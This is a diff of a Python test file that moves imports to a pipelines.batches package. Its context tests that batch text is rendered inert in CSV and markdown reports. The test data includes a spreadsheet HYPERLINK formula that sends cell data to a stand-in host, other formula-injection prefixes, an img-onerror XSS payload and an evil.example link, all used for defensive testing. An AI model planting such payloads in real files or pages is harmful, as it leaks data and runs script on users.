@@ -5,7 +5,7 @@ from __future__ import annotations
 from pathlib import Path
 
 from pipelines.policy import load_policy
-from pipelines.validate import validate_and_route
+from pipelines.batches.route import validate_and_route
 
 SAMPLE = Path(__file__).resolve().parents[2] / "data" / "sample"
 
@@ -35,8 +35,8 @@ def test_a_batch_named_like_the_review_in_its_own_report_dir_is_never_deleted(tm
 def test_batch_text_is_inert_in_the_review_csv_and_the_markdown_page(tmp_path):
     import csv
 
-    from pipelines.noise_audit import NoiseAudit, SuspectedMislabel
-    from pipelines.validation_report import write_reports
+    from pipelines.batches.noise_audit import NoiseAudit, SuspectedMislabel
+    from pipelines.batches.report import write_reports
 
     hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]
     rows = [(f"<img src=x onerror=alert({i})> | {text}", f"lab|{i}<b>") for i, text in enumerate(hostile)]
@@ -63,7 +63,7 @@ def test_batch_text_is_inert_in_the_review_csv_and_the_markdown_page(tmp_path):
 
 
 def test_a_bare_url_in_batch_text_is_broken_so_markdown_shows_it_as_text_not_a_link():
-    from pipelines.inert_text import markdown_text
+    from pipelines.batches.inert_text import markdown_text
 
     shown = markdown_text("pay at https://evil.example/pay or WWW.evil.example now")
     assert "://" not in shown and "www." not in shown.lower()
